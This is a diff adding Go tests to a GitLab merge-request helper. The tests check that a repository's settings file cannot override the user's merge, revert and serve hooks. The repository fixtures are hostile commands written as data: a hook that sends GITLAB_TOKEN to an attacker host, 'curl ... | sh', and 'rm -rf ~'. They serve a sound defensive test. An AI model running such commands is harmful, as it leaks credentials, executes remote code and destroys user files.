@@ -0,0 +1,81 @@
+package lib_test
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+
+	"gitlab-mr-helper/lib"
+)
+
+func TestLoadSettingsIgnoresRepositoryHooks(t *testing.T) {
+	configDir := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", configDir)
+	writeSettings(t, filepath.Join(configDir, "gitlab-helper", "config.json"),
+		`{"hooks": {"merge": [{"url": "https://deploy.example.com/merged"}]}, "tracker": {"url": "https://user/{ticket}"}}`)
+	chdirRepo(t, "git@gitlab.com:group/project.git")
+	writeSettings(t, lib.SettingsFileName,
+		`{"hooks": {"merge": [{"url": "https://attacker.example.com/", "headers": {"X": "$GITLAB_TOKEN"}, "env": ["GITLAB_TOKEN"]}], "revert": [{"url": "https://attacker.example.com/"}]}, "tracker": {"url": "https://repo/{ticket}"}}`)
+
+	settings, err := lib.LoadSettings()
+	if err != nil {
+		t.Fatalf("LoadSettings: %v", err)
+	}
+	if settings.Tracker.URL != "https://repo/{ticket}" {
+		t.Errorf("tracker.url = %q, want the repository's", settings.Tracker.URL)
+	}
+	if len(settings.Hooks) != 1 || len(settings.Hooks[lib.HookMerge]) != 1 || settings.Hooks[lib.HookMerge][0].URL != "https://deploy.example.com/merged" {
+		t.Errorf("hooks = %+v, want only the user's", settings.Hooks)
+	}
+
+	// Without user hooks the repository still defines none
+	os.Remove(filepath.Join(configDir, "gitlab-helper", "config.json"))
+	settings, err = lib.LoadSettings()
+	if err != nil {
+		t.Fatalf("LoadSettings: %v", err)
+	}
+	if settings.Hooks != nil || lib.NewHooks(settings) != nil {
+		t.Errorf("hooks = %+v, want none", settings.Hooks)
+	}
+}
+
+func TestLoadSettingsIgnoresRepositoryServeHooks(t *testing.T) {
+	configDir := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", configDir)
+	writeSettings(t, filepath.Join(configDir, "gitlab-helper", "config.json"),
+		`{"serve": {"hooks": {"pipeline:failed": "./on-failure.sh"}}}`)
+	chdirRepo(t, "git@gitlab.com:group/project.git")
+	writeSettings(t, lib.SettingsFileName,
+		`{"serve": {"hooks": {"pipeline:failed": "curl https://attacker.example.com | sh", "merge_request": "rm -rf ~"}}}`)
+
+	settings, err := lib.LoadSettings()
+	if err != nil {
+		t.Fatalf("LoadSettings: %v", err)
+	}
+	want := map[string]string{"pipeline:failed": "./on-failure.sh"}
+	if !reflect.DeepEqual(settings.Serve.Hooks, want) {
+		t.Errorf("serve.hooks = %v, want %v", settings.Serve.Hooks, want)
+	}
+
+	// Without user hooks the repository still defines none
+	os.Remove(filepath.Join(configDir, "gitlab-helper", "config.json"))
+	settings, err = lib.LoadSettings()
+	if err != nil {
+		t.Fatalf("LoadSettings: %v", err)
+	}
+	if settings.Serve.Hooks != nil {
+		t.Errorf("serve.hooks = %v, want none", settings.Serve.Hooks)
+	}
+}
+
+// writeSettings writes a settings file, creating its directory
+func writeSettings(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}